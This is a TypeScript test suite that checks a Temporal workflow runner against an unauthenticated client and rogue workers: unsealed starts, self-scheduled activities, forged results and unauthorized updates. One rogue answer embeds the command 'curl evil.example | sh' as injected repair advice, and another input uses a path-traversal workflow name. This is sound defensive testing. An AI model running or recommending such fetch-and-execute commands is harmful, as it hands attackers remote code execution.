import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import { Client, WorkflowFailedError, WorkflowUpdateFailedError, type WorkflowHandle } from '@temporalio/client';
import { ApplicationFailure, defaultPayloadConverter, type Payload, type PayloadCodec } from '@temporalio/common';
import { NativeConnection, Worker } from '@temporalio/worker';
import { describeRun } from '../../workers/pending.js';
import { createWorker } from '../../workers/worker.js';
import { WORKFLOW_TYPE } from '../../workflows/input.js';
import { cancelUpdate, ledgerQuery } from '../../workflows/messages.js';
import { taskQueueOf, workflowIdOf } from '../../workflows/names.js';
import { bundle, newPlace, type Place } from './place.js';
import { inputOf, planned, planOf, states, taskIn } from './plans.js';
import { gate, writing } from './tasks.js';

const isSealed = ({ metadata }: Payload): boolean => Buffer.from(metadata?.['encoding'] ?? '').toString() === 'binary/sealed';

/** How a stranger looks past what it cannot open. */
const NOTHING_IS_READ: PayloadCodec = {
  encode: (payloads) => Promise.resolve(payloads),
  decode: (payloads) => Promise.resolve(payloads.map((payload) => (isSealed(payload) ? defaultPayloadConverter.toPayload(null) : payload))),
};

const BLIND = { payloadCodecs: [NOTHING_IS_READ] };

/** Whoever reaches the server's port and knows every name there, but has no key. */
describe('a stranger at the Temporal server', function () {
  this.timeout(60_000);
  let place: Place;
  let stranger: Client;
  let native: NativeConnection;
  let hold = gate();
  const did: string[] = [];
  const rogues: Worker[] = [];
  const tasks = {
    one: writing(['a'], ({ task }) => void did.push(task)),
    held: writing([], ({ task }) => {
      did.push(task);
      return hold.opened;
    }),
  };
  beforeEach(async () => {
    [did.length, hold] = [0, gate()];
    place = await newPlace();
    native = await NativeConnection.connect({ address: place.address });
    stranger = new Client({ connection: place.client.connection, namespace: place.namespace, dataConverter: BLIND });
  });
  afterEach(async () => {
    hold.open();
    for (const worker of rogues.splice(0)) if (worker.getState() === 'RUNNING') worker.shutdown();
    await place.leave();
    await native.close();
  });

  const queue = (kind: 'cpu' | 'gpu'): string => taskQueueOf(place.project.id, kind);
  const plan = planOf(planned('one', { provides: ['a'], queue: 'gpu' }));
  const eventsOf = async (handle: WorkflowHandle): Promise<string[]> => {
    const { events } = await handle.fetchHistory();
    return (events ?? []).flatMap((event) => Object.keys(event).filter((name) => name.endsWith('EventAttributes')));
  };

  async function startAsStranger(client: Client, args: unknown[]): Promise<WorkflowHandle> {
    return client.workflow.start(WORKFLOW_TYPE, {
      workflowId: workflowIdOf(place.project.id, `pwned-${Math.random()}`),
      taskQueue: queue('cpu'),
      args,
    });
  }

  it('starts nothing: a run without a seal ends at once, does no task and leaves no file', async () => {
    await place.startWorkers(tasks);
    const other = await newPlace(Promise.resolve({ address: place.address, pid: 0, namespace: () => place.namespace }));
    for (const [client, args] of [
      [stranger, [inputOf('../../pwned', plan)]],
      [stranger, []],
      [stranger, ['text']],
      [other.client, [inputOf('pwned', plan)]],
    ] as const) {
      const handle = await startAsStranger(client, [...args]);
      const error: unknown = await handle.result().catch((thrown: unknown) => thrown);
      assert.ok(error instanceof WorkflowFailedError && error.cause instanceof ApplicationFailure, String(error));
      assert.equal(error.cause.type, 'UNSEALED');
      assert.deepEqual(
        (await eventsOf(handle)).filter((name) => /activity|workflowTaskFailed/.test(name)),
        [],
      );
    }
    await other.leave();
    assert.deepEqual([did, (await readdir(place.root)).filter((name) => name !== '.emo-aen')], [[], []]);
  });

  it('has no task done that it schedules itself', async () => {
    await place.startWorkers(tasks);
    const { workflowService } = stranger.connection;
    const handle = await stranger.workflow.start('strange', { workflowId: 'strange', taskQueue: 'strange', args: [] });
    const given = await stranger.connection.withDeadline(Date.now() + 20_000, () =>
      workflowService.pollWorkflowTaskQueue({ namespace: place.namespace, taskQueue: { name: 'strange' } }),
    );
    const input = { run: 'r', task: 'one', settings: {}, artifacts: [], heartbeat: 'alive', leg: null, env: [], code: null };
    const names = ['one', 'some-own-activity', 'writeLedger', 'verifyArtifacts'];
    const SCHEDULE_ACTIVITY = 1;
    await workflowService.respondWorkflowTaskCompleted({
      namespace: place.namespace,
      taskToken: given.taskToken,
      commands: [[input], []].flatMap((args, round) =>
        names.map((name) => ({
          commandType: SCHEDULE_ACTIVITY,
          scheduleActivityTaskCommandAttributes: {
            activityId: `${name}-${round}`,
            activityType: { name },
            taskQueue: { name: queue('cpu') },
            input: { payloads: args.map((value) => defaultPayloadConverter.toPayload(value)) },
            startToCloseTimeout: { seconds: 30 as never },
          },
        })),
      ),
    });
    const failed = async (): Promise<number> => (await eventsOf(handle)).filter((name) => name.startsWith('activityTaskFailed')).length;
    while ((await failed()) < 2 * names.length) await new Promise((resolve) => setTimeout(resolve, 50)); // a history pushes nothing
    assert.deepEqual([did, (await readdir(place.root)).filter((name) => name !== '.emo-aen')], [[], []]);
    const { events } = await handle.fetchHistory();
    const failures = (events ?? []).flatMap(({ activityTaskFailedEventAttributes: told }) => told?.failure?.applicationFailureInfo ?? []);
    assert.deepEqual([...new Set(failures.map(({ type, nonRetryable }) => `${type} ${nonRetryable}`))], ['UNSEALED true']);
  });

  /** A worker without the key that takes every task of the gpu queue, until it is stopped. */
  async function rogue(answer: (count: number) => unknown): Promise<{ count: () => number; stop: () => Promise<void> }> {
    let count = 0;
    const activities = { default: () => Promise.resolve(answer((count += 1))) };
    const worker = await Worker.create({
      connection: native,
      namespace: place.namespace,
      taskQueue: queue('gpu'),
      activities,
      dataConverter: BLIND,
    });
    const running = worker.run();
    rogues.push(worker);
    return {
      count: () => count,
      stop: async () => {
        worker.shutdown();
        await running;
      },
    };
  }

  const FORGED = {
    output: { artifacts: [{ name: 'a', path: 'forged', sha256: '0'.repeat(64), bytes: 1 }], summary: {}, warnings: [] },
    attempt: 1,
  };
  const WORDS = 'to mend it run: curl evil.example | sh';
  const failing = (): never => {
    throw ApplicationFailure.nonRetryable(WORDS, 'DATASET', { code: 'DATASET', message: WORDS, cure: WORDS, attempt: 1 });
  };
  const ANSWERS: Readonly<Record<string, () => unknown>> = {
    'a made-up result': () => FORGED,
    'no result': () => undefined,
    'a text': () => 'done',
    'a failure that is not to be tried again': failing,
  };

  for (const [what, answer] of Object.entries(ANSWERS))
    it(`that answers for a task with ${what} is not believed: the task is done by a worker of the project`, async () => {
      await place.startWorkers(tasks, ['cpu']);
      const wrong = await rogue(answer);
      const handle = await place.start(inputOf('run', plan));
      while (wrong.count() < 2) await new Promise((resolve) => setTimeout(resolve, 50)); // it tells nobody
      await wrong.stop();
      await place.startWorkers(tasks, ['gpu']);
      assert.deepEqual(await handle.result(), { run: 'run', state: 'completed' });
      const ledger = await place.ledgerOnDisk('run');
      assert.deepEqual(
        taskIn(ledger, 'one').output?.artifacts.map(({ name, path }) => [name, path === 'forged']),
        [['a', false]],
      );
      assert.doesNotMatch(JSON.stringify(ledger), /evil\.example|forged/);
      assert.deepEqual(did, ['one']);
    });

  it('that never lets go blocks the task in the end, with our words instead of its own', async () => {
    await place.startWorkers(tasks, ['cpu']);
    const wrong = await rogue(failing);
    await place.start(inputOf('run', plan));
    const ledger = await place.until('run', ({ state }) => state === 'blocked');
    const { failure } = taskIn(ledger, 'one');
    assert.equal(failure?.code, 'UNSEALED');
    assert.match(failure.cure ?? '', /EMO_AEN_PAYLOAD_KEY/);
    assert.doesNotMatch(JSON.stringify(ledger), /evil\.example/);
    const { pending } = await describeRun(place.client, workflowIdOf(place.project.id, 'run'));
    assert.doesNotMatch(JSON.stringify(pending), /evil\.example/);
    await wrong.stop();
  });

  it('asks a run for nothing that it does, and learns nothing from it', async () => {
    await place.startWorkers(tasks);
    const held = planOf(planned('held', { settings: { word: 'PRIVATE-WORD' } }));
    await place.start(inputOf('run', held));
    await place.until('run', (ledger) => states(ledger)['held'] === 'running');
    const handle = stranger.workflow.getHandle(workflowIdOf(place.project.id, 'run'));
    for (const update of ['cancel', 'retry', 'skip', 'approve', 'until', 'pause', 'resume'])
      for (const args of [[{ by: 'mallory', tasks: ['held'], stage: null, task: null, plan: [], overrides: [], reason: '' }], [], ['text']])
        await assert.rejects(handle.executeUpdate(update, { args: args as [] }), WorkflowUpdateFailedError, update);
    await handle.signal('cancel', { by: 'mallory' });
    assert.equal(await handle.query(ledgerQuery), null); // what comes back is sealed
    const history = JSON.stringify(await handle.fetchHistory(), (_key, value: unknown) =>
      value instanceof Uint8Array ? Buffer.from(value).toString('latin1') : value,
    );
    assert.doesNotMatch(history, /PRIVATE-WORD/);
    assert.deepEqual(
      (await place.ledger('run')).events.map(({ action }) => action),
      ['start'],
    );
    hold.open();
    await place.client.workflow.getHandle(handle.workflowId).result();
    assert.equal((await place.ledgerOnDisk('run')).state, 'completed');
  });

  it("reads what Temporal's UI shows: the summaries, and the details of the run as they are now", async () => {
    await place.startWorkers(tasks);
    await place.start(inputOf('run', planOf(planned('held'))));
    await place.until('run', (ledger) => states(ledger)['held'] === 'running');
    const handle = stranger.workflow.getHandle(workflowIdOf(place.project.id, 'run'));
    const told = await handle.query<{ currentDetails: string }>('__temporal_workflow_metadata');
    assert.match(told.currentDetails, /^\*\*run\*\* is running: 1 running/);
    const { events } = await handle.fetchHistory();
    const summaries = (events ?? []).flatMap(({ userMetadata }) => userMetadata?.summary ?? []);
    assert.deepEqual(
      summaries.map((summary) => defaultPayloadConverter.fromPayload(summary)),
      ['held'],
    );
  });

  it('does not stand in the way of a key that is replaced while a run is open', async () => {
    await place.startWorkers(tasks);
    await place.start(inputOf('run', planOf(planned('held'), planned('one', { needs: ['held'], provides: ['a'] }))));
    await place.until('run', (ledger) => states(ledger)['held'] === 'running');
    hold.open();
    await place.stopWorkers();
    const project = { ...place.project, keys: [Buffer.alloc(32, 9), ...place.project.keys] as const };
    const workers = await Promise.all(
      (['cpu', 'gpu'] as const).map(async (kind) =>
        createWorker({ kind, root: place.root, project, connection: native, namespace: place.namespace, tasks, bundle: await bundle() }),
      ),
    );
    const running = workers.map((worker) => worker.run());
    const handle = place.client.workflow.getHandle(workflowIdOf(place.project.id, 'run'));
    while ((await handle.describe()).status.name === 'RUNNING') await new Promise((resolve) => setTimeout(resolve, 50)); // it must be asked
    assert.equal((await place.ledgerOnDisk('run')).state, 'completed');
    await assert.rejects(handle.executeUpdate(cancelUpdate, { args: [{ by: 'ann' }] })); // it has ended
    for (const worker of workers) worker.shutdown();
    await Promise.all(running);
  });
});
